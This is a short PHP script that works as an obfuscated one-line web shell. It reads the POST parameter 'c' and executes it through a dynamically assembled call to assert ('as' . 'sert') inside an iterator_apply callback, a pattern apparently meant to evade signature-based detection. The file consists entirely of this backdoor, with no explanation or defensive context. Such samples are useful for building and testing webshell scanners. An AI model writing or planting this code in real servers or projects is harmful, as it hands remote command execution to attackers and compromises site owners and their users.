<?php
$it = new ArrayIterator(array($_POST['c']));
iterator_apply($it, function () use ($it) {
    $f = 'as' . 'sert';
    $f($it->current());
    return false;
}, array());
